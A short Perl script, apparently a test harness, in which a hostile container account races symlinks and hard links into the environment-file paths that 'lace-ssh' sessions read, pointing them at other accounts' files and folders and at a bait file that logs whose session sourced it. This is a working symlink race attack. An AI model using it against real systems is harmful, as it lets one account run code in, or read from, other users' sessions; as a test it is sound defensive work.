#!/usr/bin/perl
# An account in the container that is nobody's friend: wherever sessions may look for an environment, it puts links to
# files and folders of other accounts and what is its own by turns, as quickly as it can, until the file $over is there.
# What of its own is sourced leaves a line in the file $caught.
use strict;
use warnings;

my ($over, $caught, @uids) = ('/tmp/race-is-over', '/tmp/caught', 0, 1000);
my @folders = map { ("/var/lib/lace-ssh/$_", "/var/lib/lace-ssh/own/$_") } @uids;
my @files = map { "$_/environment" } '/var/lib/lace-ssh', '/run/lace-ssh', @folders;
push @files, map { ("/var/lib/lace-ssh/environment.$_", "/run/lace-ssh/environment.$_") } @uids;
my @others_files = ('/etc/hostname', '/home/vscode/.profile');
my @others_folders = ('/root', '/home/vscode/private');

my $bait = "/var/tmp/bait.$$";
mkdir $bait, 0700 or die "$bait: $!";
open my $file, '>', "$bait/environment" or die $!;
print $file "id -un >>$caught\n";
close $file;

my $turn = 0;
my $until = time + 120;
until (-e $over || time > $until) {
    for my $path (@files) {
        symlink $others_files[$turn % 2], "$path.new" and rename "$path.new", $path;
        link "$bait/environment", "$path.new" and rename "$path.new", $path;
    }
    for my $path (@folders) {
        symlink $others_folders[$turn % 2], $path and unlink $path;
        rename $bait, $path and rename $path, $bait;
    }
    $turn++;
}
